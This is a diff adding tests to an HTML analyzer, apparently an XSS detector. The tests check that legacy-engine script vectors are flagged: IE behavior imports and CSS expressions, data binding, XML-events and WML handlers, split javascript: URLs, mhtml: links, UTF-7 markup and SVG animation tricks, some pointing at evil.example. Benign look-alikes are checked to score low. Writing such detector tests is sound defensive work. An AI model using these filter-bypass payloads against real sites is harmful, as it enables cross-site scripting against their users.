@@ -91,6 +91,53 @@ describe("html analyzer: browsers' tolerance and other readings of markup", () =
   });
 });
 
+describe("html analyzer: other engines' ways to run or load code (IE, XML, WML)", () => {
+  test.each([
+    ['<?import namespace="x" implementation="http://evil.example/x.htc">', "html.behavior-import"],
+    ['<link rel=stylesheet href="data:,*%7bx:expression(write(1))%7d">', "html.css-expression"],
+    ['<?xml-stylesheet type="text/css" href="data:,*%7bx:expression(write(2))%7d"?>', "html.css-expression"],
+    ['<label dataformatas="html" datasrc="#island" datafld="payload"></label>', "html.data-binding"],
+    ['<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">prompt(1)</handler>', "html.script-element"],
+    ["<eval>new ActiveXObject('htmlfile').parentWindow.confirm(5)</eval>", "html.script-element"],
+    ['<when expr="self.parent.alert(3)"></when>', "html.script-attribute"],
+    ['<w:card w:onenterforward="$(v)javascript:alert(1)">', "html.event-handler"],
+    ['<IMG SRC="java<!-- x -->script:confirm(1)">', "html.script-url"],
+    ['<I><![CDATA[<IMG SRC="jav<![CDATA[ascript:prompt(2);">', "html.script-url"],
+    ['<a href="mhtml:http://evil.example/upload.png!page.html">x</a>', "html.data-url"],
+    ["<!ATTLIST img onload CDATA 'prompt(9)'>", "html.dtd-handler"],
+    ['"><script+src="https://api.example/jsonp?callback=confirm(7)"></script>', "html.script-src"],
+    ['<set attributeName="innerHTML" to="&lt;svg&#11;onload&#11;=alert(1)&gt;">', "html.animated-markup"],
+    ["&ADw-svg&ACA-onload&AD0-alert(1)&AD4-", "html.charset-markup"],
+  ])("%s", (text, rule) => {
+    expect(rules(text).has(rule)).toBe(true);
+    expect(top(text)).toBeGreaterThanOrEqual(0.6);
+  });
+
+  test("the weaker ones stay features, the built-in ones weaker than loaded code", () => {
+    expect(top('<import namespace="t" implementation="#default#time2">')).toBeLessThan(0.8);
+    expect(top('<listener event="load" handler="#h" observer="x"/>')).toBeLessThan(0.8);
+    expect(top('<meta http-equiv="Link" content="<//evil.example/x.css>; rel=stylesheet">')).toBeLessThan(0.8);
+  });
+
+  test("look-alikes of these constructs find nothing strong", () => {
+    for (const text of [
+      '<?xml version="1.0" encoding="UTF-8"?><note><to>Ann</to></note>',
+      '<link rel="stylesheet" href="/css/site.css">',
+      '<link rel="stylesheet" href="data:text/css,body%7bcolor:red%7d">',
+      '<span datasrc="#list" datafld="name"></span>',
+      "<eval>1 + 2</eval>",
+      "<handler>save()</handler>",
+      '<if expr="count > 3">x</if>',
+      '<a href="/docs/<!-- note -->">docs</a>',
+      "<![CDATA[ plain text ]]>",
+      "<!ATTLIST img alt CDATA 'photo'>",
+      "a+b<c+d and <em+strong> in prose",
+      "R&AD department & ACME",
+      "<p>mhtml: files are web archives</p>",
+    ]) expect(top(text)).toBeLessThan(0.5);
+  });
+});
+
 describe("html analyzer: script URLs inside a value", () => {
   test.each([["?url=javascript:alert(1)"], ["a=k:v;m:url(javascript:alert(1))"], ["feed:javascript:alert(document.cookie)"]])("%s", (text) => {
     expect(top(text)).toBeGreaterThanOrEqual(0.8);
